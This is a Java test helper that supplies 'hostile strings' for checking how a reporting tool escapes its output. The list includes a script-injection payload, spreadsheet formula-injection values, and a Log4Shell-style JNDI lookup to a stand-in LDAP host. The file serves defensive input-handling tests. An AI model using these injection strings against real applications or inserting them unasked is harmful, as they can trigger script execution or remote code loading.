package org.rapporteur.report;

import com.google.gson.JsonParser;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

/** Strings that break files and pages: our own ones always, those of the shared folder where it stands. */
final class HostileStrings {

    private static final List<String> OWN = List.of(
            "<b>bold</b> & \"quoted\" 'text'",
            "</title></svg></script><script>alert(2)</script>",
            "]]> <!-- <![CDATA[ ?> &#0; &amp;",
            "=HYPERLINK(A1)",
            "\t+1",
            "\u200b-2",
            "'=3",
            "a;b\tc,d\"e\"",
            "one | two \\| three \\",
            "# **x** _y_ [z](http://example.org) ![i](j) <http://example.org> www.example.org a@b.example",
            "- item\n- item\r\n1. item\r---\n===",
            "``` ~~~ `a` $b$ ^c^ :smile:",
            "nul\u0000bell\u0007escape\u001b[31m c1\u0085\u009b",
            "half \ud800 and \udfff, none \ufffe\uffff",
            "\u202eright to left\u2066 isolate \u200f",
            "soft\u00adhyphen zero\u200bwidth \ufeffmark",
            "line\u2028paragraph\u2029",
            "   spaces   around   ",
            "Z\u0336\u0489\u0336\u0489a",
            "\ud83d\udc69\u200d\ud83d\ude80 \u0645\u0635\u0631 \u65e5\u672c",
            "${jndi:ldap://192.0.2.1} %s %n {0} \\u0041",
            "x".repeat(300),
            "null");

    /** Not part of this project. */
    static final Path SHARED = Path.of(System.getProperty("rapporteur.shared", "../shared"))
            .resolve("hostile")
            .resolve("strings.jsonl");

    private HostileStrings() {}

    static List<String> own() {
        return OWN;
    }

    static List<String> all() {
        List<String> all = new ArrayList<>(OWN);
        if (Files.exists(SHARED)) {
            try {
                Files.readAllLines(SHARED)
                        .forEach(line -> all.add(JsonParser.parseString(line)
                                .getAsJsonObject()
                                .get("value")
                                .getAsString()));
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }
        return all;
    }
}
